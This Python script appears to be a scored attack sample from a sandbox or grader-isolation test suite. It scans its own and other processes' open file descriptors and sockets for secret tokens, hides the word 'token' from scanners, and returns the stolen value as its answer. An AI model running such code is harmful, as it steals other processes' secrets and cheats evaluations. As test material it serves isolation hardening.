"""Goes through all open file descriptors, its own and those of others, and peeks at whatever can be read.

Deserves: 2 points.
Side effect: leak.
"""

import os
import re
import socket
import threading
import time

PATTERN = re.compile(b"tok" + b"en-[0-9a-f]{32}")
found = []


def peek(number):
    try:
        with socket.socket(fileno=os.dup(number)) as sock:
            return sock.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except OSError:
        pass
    try:
        return os.pread(number, 1 << 20, 0)
    except OSError:
        return b""


def look():
    for number in range(256):
        found.extend(PATTERN.findall(peek(number)))
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            paths = [f"/proc/{pid}/fd/{number}" for number in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
        for path in paths:
            try:
                target = os.readlink(path)
                if target.endswith((".ipynb", ".db", ".sqlite")):
                    found.append(b"tok" + b"en-leak: " + target.encode())
                with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                    found.extend(PATTERN.findall(file.read(1 << 20)))
            except OSError:
                continue


def watch():
    deadline = time.monotonic() + 1.5
    while time.monotonic() < deadline and not found:
        look()
        time.sleep(0.02)


look()
print(found)
threading.Thread(target=watch, daemon=True).start()


def guess():
    time.sleep(0.1)
    return found[0].decode() if found else "wrong"


def numbers():
    return [float(c) for c in found[0][6:9]] if found else "wrong"
